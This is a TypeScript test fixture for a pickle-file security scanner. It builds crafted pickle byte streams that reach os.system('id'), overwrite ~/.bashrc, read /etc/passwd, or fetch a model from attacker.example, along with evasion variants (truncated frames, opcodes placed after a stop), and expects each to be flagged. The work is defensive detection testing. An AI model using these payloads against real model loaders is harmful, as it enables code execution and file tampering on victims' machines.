import type { UnseenCase } from './unseen-attacks.test.js';

const short = (s: string) => `\x8c${String.fromCharCode(s.length)}${s}`;
/** Protocol 4: STACK_GLOBAL of `module` + `name` (dotted names walk attributes), called with one string. */
const call4 = (module: string, name: string, arg = 'x') =>
  Buffer.from(`\x80\x04${short(module)}${short(name)}\x93${short(arg)}\x85R.`, 'latin1');
/** The same, called with two strings. */
const call2 = (module: string, name: string, a: string, b: string) =>
  Buffer.from(`\x80\x04${short(module)}${short(name)}\x93${short(a)}${short(b)}\x86R.`, 'latin1');

/**
 * Globals a model library exports that read or write files, fetch URLs or load other models: `pickle.load`'s
 * `find_class` imports them and REDUCE calls them (CPython `Lib/pickle.py` `load_stack_global`, `load_reduce`).
 * They were "unknown name of a model library" warnings, which pass the default gate.
 */
export const PICKLE_CASES: readonly UnseenCase[] = [
  {
    name: 'joblib.load under its own module name',
    loader: 'joblib.numpy_pickle.load (unpickles another file)',
    files: { 'm.pkl': call4('joblib.numpy_pickle', 'load', '/tmp/evil.pkl') },
    want: ['CPI001:error'],
  },
  {
    name: "scikit-learn's re-export of joblib.load",
    loader: 'sklearn.utils._joblib.load is joblib.load',
    files: { 'm.pkl': call4('sklearn.utils._joblib', 'load', '/tmp/evil.pkl') },
    want: ['CPI001:error'],
  },
  {
    name: 'Keras load_model of another (legacy .h5) model',
    loader: 'keras.src.saving.saving_api.load_model',
    files: { 'm.pkl': call4('keras.src.saving.saving_api', 'load_model', '/tmp/lambda.h5') },
    want: ['CPI001:error'],
  },
  {
    name: 'numpy.savetxt writes a file',
    loader: 'numpy.savetxt',
    files: { 'm.pkl': call4('numpy', 'savetxt', '/home/u/.bashrc') },
    want: ['CPI001:error'],
  },
  {
    name: 'torch model_zoo downloads and torch.loads a URL',
    loader: 'torch.utils.model_zoo.load_url → torch.hub.load_state_dict_from_url',
    files: { 'm.pkl': call4('torch.utils.model_zoo', 'load_url', 'https://attacker.example/x.pt') },
    want: ['CPI001:error'],
  },
  {
    name: 'unbound DataFrame.to_pickle reached through the pandas alias',
    loader: 'pickle _getattribute of a dotted protocol 4 name',
    files: { 'm.pkl': call4('pandas', 'DataFrame.to_pickle') },
    want: ['CPI001:error'],
  },
  {
    name: 'unbound ndarray.tofile',
    loader: 'pickle _getattribute of a dotted protocol 4 name',
    files: { 'm.pkl': call4('numpy', 'ndarray.tofile') },
    want: ['CPI001:error'],
  },
  {
    name: "ndarray.dump's module-level implementation",
    loader: 'numpy/core/_methods.py `_dump(self, file)`: open(file, "wb") and pickle.dump(self) into it',
    files: { 'm.pkl': call2('numpy.core._methods', '_dump', 'x', '/home/u/.bashrc') },
    want: ['CPI001:error'],
  },
  {
    name: "ndarray.dump's implementation under numpy 2's module name",
    loader: 'numpy/_core/_methods.py `_dump`',
    files: { 'm.pkl': call2('numpy._core._methods', '_dump', 'x', '/home/u/.bashrc') },
    want: ['CPI001:error'],
  },
  {
    name: 'scikit-learn writes a decision tree as Graphviz text to any path',
    loader: 'sklearn/tree/_export.py `export_graphviz(decision_tree, out_file)`: open(out_file, "w")',
    files: { 'm.pkl': call2('sklearn.tree._export', 'export_graphviz', 'tree', '/home/u/.bashrc') },
    want: ['CPI001:error'],
  },
  {
    name: 'numpy.ma reads any text file into a record array',
    loader: 'numpy/ma/mrecords.py `fromtextfile(fname)` → `openfile`: open(fname)',
    files: { 'm.pkl': call4('numpy.ma.mrecords', 'fromtextfile', '/etc/passwd') },
    want: ['CPI001:error'],
  },
  {
    name: 'scikit-learn build helper compiles and runs C code',
    loader: 'sklearn/_build_utils/pre_build_helpers.py `compile_test_program(code)`: compile, link, check_output',
    files: { 'm.pkl': call4('sklearn._build_utils.pre_build_helpers', 'compile_test_program', 'int main(){}') },
    want: ['CPI001:error'],
  },
  {
    name: "joblib's test helper runs a command",
    loader: 'joblib/testing.py `check_subprocess_call(cmd)`: subprocess.Popen(cmd)',
    files: { 'm.pkl': call4('joblib.testing', 'check_subprocess_call', 'id') },
    want: ['CPI001:error'],
  },
  {
    name: "scipy's uarray reconstructor imports os.system, which the stream then calls",
    loader: 'scipy/_lib/_uarray/_backend.py `unpickle_function(mod_name, qname, self_)`: import_module + getattr',
    files: {
      'm.pkl': Buffer.from(
        `\x80\x04${short('scipy._lib._uarray._backend')}${short('unpickle_function')}\x93` +
          `${short('os')}${short('system')}N\x87R${short('id')}\x85R.`,
        'latin1',
      ),
    },
    want: ['CPI001:error'],
  },
  {
    name: 'torch preloads a CUDA library from a path its arguments walk out of',
    loader:
      'torch/__init__.py `_preload_cuda_deps(lib_folder, lib_name)`: ctypes.CDLL(glob(…/nvidia/<folder>/lib/<name>))',
    files: { 'm.pkl': call2('torch', '_preload_cuda_deps', '../../../../tmp', 'x.so') },
    want: ['CPI001:error'],
  },
  {
    name: 'scipy.sparse reads any .npz file',
    loader: 'scipy/sparse/_matrix_io.py `load_npz(file)`: np.load(file)',
    files: { 'm.pkl': call4('scipy.sparse', 'load_npz', '/tmp/x.npz') },
    want: ['CPI001:error'],
  },
  {
    name: 'scikit-learn dataset fetcher (network)',
    loader: 'sklearn.datasets.fetch_openml',
    files: { 'm.pkl': call4('sklearn.datasets', 'fetch_openml', 'x') },
    want: ['CPI001:error'],
  },
  {
    name: 'FRAME declaring more bytes than the file holds, os.system inside',
    loader: 'Lib/pickle.py _Unframer.load_frame (short read accepted; joblib.load uses pickle._Unpickler)',
    files: { 'm.joblib': shortFrame(call4('os', 'system', 'id')) },
    want: ['CPI001:error', 'CPI007:warning'],
  },
  ...[
    { name: 'BUILD with state None on a list', prefix: ']Nb', loader: '_pickle.c load_build skips a None state' },
    { name: 'BUILD with state None on an int', prefix: 'K\x01Nb', loader: '_pickle.c load_build' },
    {
      name: 'BUILD with state (None, None) on a dict',
      prefix: '}NN\x86b',
      loader: 'Lib/pickle.py load_build (falsy state and slot state; joblib.load)',
    },
    { name: 'SETITEM on a list', prefix: '](K\x01eK\x00K\x02s', loader: 'load_setitem: list[0] = 2' },
    {
      name: 'INT with a leading zero (octal)',
      prefix: 'I010\n',
      loader: '_pickle.c load_int: strtol(s, &end, 0)',
    },
  ].map(({ name, prefix, loader }) => ({
    name: `${name}, then os.system`,
    loader,
    files: { 'm.pkl': Buffer.from(`\x80\x02${prefix}0cos\nsystem\n(S'id'\ntR.`, 'latin1') },
    want: ['CPI001:error'],
  })),
  // Python 3.11.2 raises "invalid literal for int() with base 0: '010'" in both unpicklers: the call after it never
  // runs. The machine stops there too (CPI003); the tail scan still names the call, as for any pickle that stops.
  {
    name: 'LONG with a leading zero, then os.system',
    loader: '_pickle.c load_long: PyLong_FromString(s, NULL, 0), where 010 is no number',
    files: { 'm.pkl': Buffer.from("\x80\x02L010L\n0cos\nsystem\n(S'id'\ntR.", 'latin1') },
    want: ['CPI001:error', 'CPI003:warning'],
  },
  {
    name: 'os.system after an opcode our VM stops on (lexical tail scan)',
    loader: 'pickletools.genops-style walk past the stop: defence in depth where the unpicklers may go on',
    files: { 'm.pkl': Buffer.from("\x80\x02]}K\x01K\x02sb0cos\nsystem\n(S'id'\ntR.", 'latin1') },
    want: ['CPI001:error', 'CPI003:warning'],
  },
  {
    name: 'STACK_GLOBAL names from the memo after the stop',
    loader: 'pickletools.genops-style walk past the stop',
    files: {
      'm.pkl': Buffer.from(
        '\x80\x04]}K\x01K\x02sb0\x8c\x02os\x94\x8c\x06system\x940h\x00h\x01\x93\x8c\x02id\x85R.',
        'latin1',
      ),
    },
    want: ['CPI001:error', 'CPI003:warning'],
  },
  {
    name: 'truncated benign pickle: nothing to read past the stop',
    loader: 'pickle.load raises at the truncation',
    files: { 'm.pkl': Buffer.from('\x80\x02}q\x00(X\x01\x00\x00\x00aK\x01X\x05\x00\x00', 'latin1') },
    want: ['CPI003:warning'],
  },
];

/** Wraps a protocol 4 body in one FRAME that claims 8 bytes more than follow. */
function shortFrame(p: Buffer): Buffer {
  const body = p.subarray(2);
  const len = Buffer.alloc(8);
  len.writeBigUInt64LE(BigInt(body.length + 8));
  return Buffer.concat([p.subarray(0, 2), Buffer.from([0x95]), len, body]);
}
